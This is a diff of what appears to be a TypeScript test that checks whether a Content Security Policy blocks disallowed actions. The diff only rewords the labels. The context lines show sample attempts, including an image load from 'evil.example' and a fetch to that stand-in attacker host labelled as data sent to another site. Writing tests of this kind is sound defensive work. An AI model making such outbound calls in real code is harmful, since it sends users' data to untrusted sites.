@@ -25,7 +25,7 @@ const attempts: [what: string, by: string, attempt: () => unknown][] = [
     },
   ],
   [
-    'a script of somebody else',
+    'a third-party script',
     'require-trusted-types-for',
     () => {
       const script = document.createElement('script');
@@ -44,7 +44,7 @@ const attempts: [what: string, by: string, attempt: () => unknown][] = [
     },
   ],
   [
-    'a picture of somebody else',
+    'a third-party picture',
     'img-src',
     () => {
       document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }));
@@ -59,9 +59,9 @@ const attempts: [what: string, by: string, attempt: () => unknown][] = [
       document.body.append(frame);
     },
   ],
-  ['data that goes elsewhere', 'connect-src', () => fetch('https://evil.example/').catch(() => {})],
+  ['data sent to another site', 'connect-src', () => fetch('https://evil.example/').catch(() => {})],
   [
-    'a form that goes elsewhere',
+    'a form sent to another site',
     'form-action',
     () => {
       const form = document.createElement('form');
